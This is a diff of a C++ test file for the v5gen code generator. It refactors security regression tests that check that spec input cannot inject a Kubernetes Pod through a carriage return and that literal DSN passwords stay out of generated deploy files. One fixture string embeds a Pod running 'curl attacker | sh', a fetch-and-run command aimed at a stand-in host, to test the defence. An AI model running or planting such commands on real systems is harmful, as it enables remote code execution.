@@ -29,12 +29,41 @@ class Attack : public v5test::GeneratorDir {
     return path;
   }
   fs::path out() const { return dir_ / "out"; }
+
+  // Generates `spec_text`, which holds `password` literally in a DSN: generate succeeds with
+  // V415 naming `key`, and neither its output nor any deploy file holds the password. Then
+  // `python_check` (a Python program; argv[1] is deploy/k8s) must pass.
+  void expect_password_kept_out_of_deploy(const std::string& spec_text, const std::string& key,
+                                          const std::string& password,
+                                          const std::string& python_check) {
+    const auto r = generate(spec(spec_text), out());
+    ASSERT_EQ(r.exit_code, 0) << r.output;
+    EXPECT_NE(r.output.find("V415"), std::string::npos) << r.output;
+    EXPECT_NE(r.output.find("the " + key + " of database"), std::string::npos) << r.output;
+    EXPECT_EQ(r.output.find(password), std::string::npos) << r.output;
+    for (const auto& entry : fs::recursive_directory_iterator(out() / "deploy")) {
+      if (!entry.is_regular_file()) continue;
+      EXPECT_EQ(read(entry.path()).find(password), std::string::npos) << entry.path();
+    }
+    const auto check = run("python3 -c 'import sys, yaml\n" + python_check + "' " +
+                           (out() / "deploy/k8s").string());
+    EXPECT_EQ(check.exit_code, 0) << check.output;
+  }
 };
 
 constexpr const char* kHead = R"(schema_version: 1
 system: { name: attack, version: 1 }
 databases:
   main: { backend: sqlite, dsn: "db=attack.db", pool: { max_size: 2 } }
+)";
+
+// One entity and its store, after a spec's databases.
+constexpr const char* kItemStore = R"(entities:
+  item:
+    fields:
+      id: { type: int64, primary_key: true, generated: true }
+components:
+  - { name: items, type: store, entity: item, database: main }
 )";
 
 // The lines of `text` where `marker` appears in code, that is before any "//" on the line.
@@ -94,74 +123,62 @@ components:
 // A bare carriage return in a spec comment: YAML parsers take it as a line break, so pasted
 // into the ConfigMap it started a second document, a Pod.
 TEST_F(Attack, CarriageReturnInACommentCannotAddAPod) {
-  const fs::path file = spec(std::string(kHead) + R"(entities:
+  const fs::path file =
+      spec(std::string(kHead) + R"(entities:
   item:
     fields:
       id: { type: int64, primary_key: true, generated: true }
 components:
   - { name: items, type: store, entity: item, database: main }
-)" + "# end\r---\rapiVersion: v1\rkind: Pod\rmetadata: {name: evil}\rspec: {containers: "
-                                    "[{name: x, image: \"evil:latest\", command: [sh, -c, "
-                                    "\"curl attacker | sh\"]}]}\r");
+)" +
+           "# end\r---\rapiVersion: v1\rkind: Pod\rmetadata: {name: evil}\rspec: {containers: "
+           "[{name: x, image: \"evil:latest\", command: [sh, -c, "
+           "\"curl attacker | sh\"]}]}\r");
   const auto r = generate(file, out());
   ASSERT_EQ(r.exit_code, 0) << r.output;
-  const auto check = run(
-      "python3 -c 'import sys, yaml\n"
-      "docs = list(yaml.safe_load_all(open(sys.argv[1], newline=\"\")))\n"
-      "assert len(docs) == 1, [d.get(\"kind\") for d in docs]\n"
-      "assert docs[0][\"kind\"] == \"ConfigMap\", docs[0]\n"
-      "assert docs[0][\"data\"][\"attack.yaml\"] == open(sys.argv[2], newline=\"\").read()' " +
-      (out() / "deploy/k8s/configmap.yaml").string() + " " + file.string());
+  const auto check =
+      run("python3 -c 'import sys, yaml\n"
+          "docs = list(yaml.safe_load_all(open(sys.argv[1], newline=\"\")))\n"
+          "assert len(docs) == 1, [d.get(\"kind\") for d in docs]\n"
+          "assert docs[0][\"kind\"] == \"ConfigMap\", docs[0]\n"
+          "assert docs[0][\"data\"][\"attack.yaml\"] == open(sys.argv[2], newline=\"\").read()' " +
+          (out() / "deploy/k8s/configmap.yaml").string() + " " + file.string());
   EXPECT_EQ(check.exit_code, 0) << check.output;
-  for (const char* deploy : {"deploy/docker-compose.yml", "deploy/prometheus.yml",
-                             "deploy/k8s/deployment.yaml", "deploy/k8s/service.yaml",
-                             "deploy/k8s/secret.yaml"}) {
+  for (const char* deploy :
+       {"deploy/docker-compose.yml", "deploy/prometheus.yml", "deploy/k8s/deployment.yaml",
+        "deploy/k8s/service.yaml", "deploy/k8s/secret.yaml"}) {
     EXPECT_EQ(read(out() / deploy).find("evil"), std::string::npos) << deploy;
   }
 }
 
 TEST_F(Attack, LiteralDsnPasswordGoesToTheSecretNotTheConfigMap) {
-  const fs::path file = spec(R"(schema_version: 1
+  expect_password_kept_out_of_deploy(
+      R"(schema_version: 1
 system: { name: attack, version: 1 }
 databases:
   main: { backend: postgresql, dsn: "host=db.internal port=5432 dbname=shop user=app password=hunter2secret", pool: { max_size: 2 } }
-entities:
-  item:
-    fields:
-      id: { type: int64, primary_key: true, generated: true }
-components:
-  - { name: items, type: store, entity: item, database: main }
-)");
-  const auto r = generate(file, out());
-  ASSERT_EQ(r.exit_code, 0) << r.output;
-  EXPECT_NE(r.output.find("V415"), std::string::npos) << r.output;
-  EXPECT_EQ(r.output.find("hunter2secret"), std::string::npos) << r.output;
-  for (const auto& entry : fs::recursive_directory_iterator(out() / "deploy")) {
-    if (!entry.is_regular_file()) continue;
-    EXPECT_EQ(read(entry.path()).find("hunter2secret"), std::string::npos) << entry.path();
-  }
-  const auto check = run(
-      "python3 -c 'import sys, yaml\n"
+)" + std::string(kItemStore),
+      "dsn", "hunter2secret",
       "k8s = sys.argv[1]\n"
       "cm = yaml.safe_load(open(k8s + \"/configmap.yaml\"))\n"
       "spec = yaml.safe_load(cm[\"data\"][\"attack.yaml\"])\n"
       "assert spec[\"databases\"][\"main\"][\"dsn\"] == \"${ATTACK_MAIN_DSN}\", spec\n"
       "secret = yaml.safe_load(open(k8s + \"/secret.yaml\"))\n"
-      "assert secret[\"stringData\"] == {\"ATTACK_MAIN_DSN\": \"\", \"V5_MONITORING_TOKEN\": \"\"}, secret\n"
+      "assert secret[\"stringData\"] == {\"ATTACK_MAIN_DSN\": \"\", \"V5_MONITORING_TOKEN\": "
+      "\"\"}, secret\n"
       "pod = yaml.safe_load(open(k8s + \"/deployment.yaml\"))[\"spec\"][\"template\"][\"spec\"]\n"
       "env = {e[\"name\"]: e for e in pod[\"containers\"][0][\"env\"]}\n"
       "ref = env[\"ATTACK_MAIN_DSN\"][\"valueFrom\"][\"secretKeyRef\"]\n"
       "assert ref == {\"name\": \"attack-db\", \"key\": \"ATTACK_MAIN_DSN\"}, ref\n"
       "token = env[\"V5_MONITORING_TOKEN\"][\"valueFrom\"][\"secretKeyRef\"]\n"
-      "assert token == {\"name\": \"attack-db\", \"key\": \"V5_MONITORING_TOKEN\"}, token' " +
-      (out() / "deploy/k8s").string());
-  EXPECT_EQ(check.exit_code, 0) << check.output;
+      "assert token == {\"name\": \"attack-db\", \"key\": \"V5_MONITORING_TOKEN\"}, token");
 }
 
 // The migration DSN of a database behind a pooler is a second place for a password: it goes
 // to the Secret too, under a variable of its own, and the DSN that has none stays as written.
 TEST_F(Attack, LiteralMigrationDsnPasswordGoesToTheSecretNotTheConfigMap) {
-  const fs::path file = spec(R"(schema_version: 1
+  expect_password_kept_out_of_deploy(
+      R"(schema_version: 1
 system: { name: attack, version: 1 }
 databases:
   main:
@@ -170,34 +187,16 @@ databases:
     pooler: pgbouncer
     migration_dsn: "host=db.internal port=5432 dbname=shop user=owner password=m1grate-s3cret"
     pool: { max_size: 2 }
-entities:
-  item:
-    fields:
-      id: { type: int64, primary_key: true, generated: true }
-components:
-  - { name: items, type: store, entity: item, database: main }
-)");
-  const auto r = generate(file, out());
-  ASSERT_EQ(r.exit_code, 0) << r.output;
-  EXPECT_NE(r.output.find("V415"), std::string::npos) << r.output;
-  EXPECT_NE(r.output.find("migration_dsn"), std::string::npos) << r.output;
-  EXPECT_EQ(r.output.find("m1grate-s3cret"), std::string::npos) << r.output;
-  for (const auto& entry : fs::recursive_directory_iterator(out() / "deploy")) {
-    if (!entry.is_regular_file()) continue;
-    EXPECT_EQ(read(entry.path()).find("m1grate-s3cret"), std::string::npos) << entry.path();
-  }
-  const auto check = run(
-      "python3 -c 'import sys, yaml\n"
+)" + std::string(kItemStore),
+      "migration_dsn", "m1grate-s3cret",
       "k8s = sys.argv[1]\n"
       "cm = yaml.safe_load(open(k8s + \"/configmap.yaml\"))\n"
       "db = yaml.safe_load(cm[\"data\"][\"attack.yaml\"])[\"databases\"][\"main\"]\n"
       "assert db[\"migration_dsn\"] == \"${ATTACK_MAIN_MIGRATION_DSN}\", db\n"
       "assert db[\"dsn\"] == \"host=pgbouncer.internal port=6432 dbname=shop user=app\", db\n"
       "secret = yaml.safe_load(open(k8s + \"/secret.yaml\"))\n"
-      "assert set(secret[\"stringData\"]) == {\"ATTACK_MAIN_MIGRATION_DSN\",\n"
-      "                                      \"V5_MONITORING_TOKEN\"}, secret' " +
-      (out() / "deploy/k8s").string());
-  EXPECT_EQ(check.exit_code, 0) << check.output;
+      "assert set(secret[\"stringData\"]) == {\"ATTACK_MAIN_MIGRATION_DSN\", "
+      "\"V5_MONITORING_TOKEN\"}, secret");
 }
 
 TEST_F(Attack, CollidingNamesAreRefusedBeforeAnythingIsWritten) {
@@ -281,7 +280,6 @@ TEST_F(Boundary, StaleEntryWithAnotherHashIsNotRemoved) {
   EXPECT_EQ(read(out() / "notes.txt"), "mine");
   EXPECT_NE(r.output.find("kept notes.txt"), std::string::npos) << r.output;
 }
-
 
 // The docs promise that --force leaves foreign files alone: the user's own CMakeLists.txt and
 // src/main.cpp in a directory v5gen never wrote to stay as they are.
